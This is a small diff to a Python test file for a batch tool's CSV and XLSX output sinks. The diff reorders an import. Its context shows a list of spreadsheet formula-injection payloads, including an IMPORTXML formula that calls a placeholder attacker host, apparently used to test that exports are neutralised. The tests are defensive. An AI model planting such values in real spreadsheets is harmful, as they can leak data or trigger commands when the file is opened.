@@ -6,12 +6,13 @@ import csv
 import zipfile
 
 import pytest
-from conftest import ScriptedModel, critic_answer, make_settings, write_brief, writer_answer
 from openpyxl import load_workbook
 
 from batch.runlog import FIELDS, RunLog
 from batch.runner import Batch
 from batch.sheets import XLSX_CELL_LIMIT, CsvSink, XlsxSink
+
+from conftest import ScriptedModel, critic_answer, make_settings, write_brief, writer_answer
 
 HOSTILE = ["=IMPORTXML(\"http://evil\",\"//a\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rcmd"]
 
